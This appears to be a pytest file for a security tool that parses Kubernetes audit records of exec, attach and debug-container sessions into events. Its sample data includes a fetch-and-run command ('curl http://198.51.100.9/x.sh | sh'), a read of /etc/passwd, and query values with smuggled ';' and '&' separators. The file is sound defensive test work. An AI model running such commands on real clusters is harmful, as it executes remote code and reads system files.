"""What the API server's audit events say of sessions: exec, attach and debug containers."""

import json

import pytest
from audit_events import changed, events_of, one
from kubernetes_records import decode, sample

from tidewaiter.event import ContainerExec
from tidewaiter.sources._fields import parse_time_ns
from tidewaiter.sources.kubernetes_audit import SOURCE


def test_both_answer_stages_of_a_session_give_one_event_under_one_id() -> None:
    """Counting once by native_id is enough: time and content are the same."""
    received, started, complete, *_ = events_of("v1_sessions")
    assert received == []
    assert started == complete
    session = one(started)
    assert isinstance(session, ContainerExec)
    assert session.command == ("sh", "-c", "curl http://198.51.100.9/x.sh | sh")
    assert session.pod is not None
    assert (session.pod.namespace, session.pod.name, session.pod.container_name) == ("shop", "web-0", "web")
    assert session.interactive is True
    assert session.user is not None
    assert session.user.name == "alice@example.com"
    assert session.time_ns == parse_time_ns("2026-03-04T10:10:00.5Z")


def test_spdy_exec_attach_and_the_kubelet_s_run_are_sessions_too() -> None:
    """A request through nodes/proxy names the node; portforward, metrics and refused sessions give nothing."""
    _, _, _, spdy, attach, refused, run, metrics, forward = events_of("v1_sessions")
    assert (one(spdy).command, one(spdy).interactive) == (("id",), False)
    assert (one(attach).command, one(attach).interactive) == ((), True)
    assert (refused, metrics, forward) == ([], [], [])
    session = one(run)
    assert (session.node, session.command) == ("node-a", ("cat", "/etc/passwd"))
    assert (session.pod.namespace, session.pod.name, session.pod.container_name) == ("shop", "web-0", "web")


@pytest.mark.parametrize(
    ("uri", "command"),
    [
        ("/x/exec?command=%FF&command=a%00b", ("�", "a\x00b")),
        ("/x/exec?command=&command=a;b&command=c%26d", ("", "a;b", "c&d")),
        ("/x/exec?command", ("",)),
        ("/x/exec?", ()),
    ],
)
def test_a_command_is_read_from_any_query(uri: str, command: tuple[str, ...]) -> None:
    record = changed(sample("kubernetes_audit", "v1_sessions")[3], requestURI=uri)
    assert one(decode(SOURCE, record)).command == command


def test_a_session_without_an_address_is_read_from_its_options() -> None:
    options = {"kind": "PodExecOptions", "command": ["id"], "container": "web", "tty": True}
    record = changed(sample("kubernetes_audit", "v1_sessions")[3], requestURI=None, requestObject=options)
    session = one(decode(SOURCE, record))
    assert (session.command, session.pod.container_name, session.interactive) == (("id",), "web", True)


@pytest.mark.parametrize(
    ("uri", "pod"),
    [
        ("/api/v1/nodes/n/proxy/exec/shop/web-0/4f1c/web?command=sh&tty=1", ("shop", "web-0", "4f1c", "web")),
        ("/api/v1/nodes/n/proxy/run/a%2Fb/p/c?cmd=id", ("a/b", "p", None, "c")),
    ],
)
def test_the_kubelet_s_paths_name_pod_uid_and_container(uri: str, pod: tuple[str | None, ...]) -> None:
    record = json.loads(sample("kubernetes_audit", "v1_sessions")[6])
    record["requestURI"], record["objectRef"]["name"] = uri, "https:n:10250"
    session = one(decode(SOURCE, record))
    assert session.node == "n"
    assert (session.pod.namespace, session.pod.name, session.pod.uid, session.pod.container_name) == pod


def test_a_debug_container_is_told_with_who_added_it_and_without_the_others() -> None:
    """The answer lists every ephemeral container; only the one this request names is this user's."""
    new, old = events_of("v1_debug_containers")
    pod = one(new)
    assert [(c.name, c.kind, c.image) for c in pod.containers] == [
        ("debugger-bbbbb", "ephemeral", "docker.io/library/busybox:1.36")
    ]
    assert (pod.user.name, pod.assigned_node) == ("alice@example.com", "node-a")
    assert [(c.name, c.kind) for c in one(old).containers] == [("old-debugger", "ephemeral")]
    assert one(old).pod.uid == pod.pod.uid
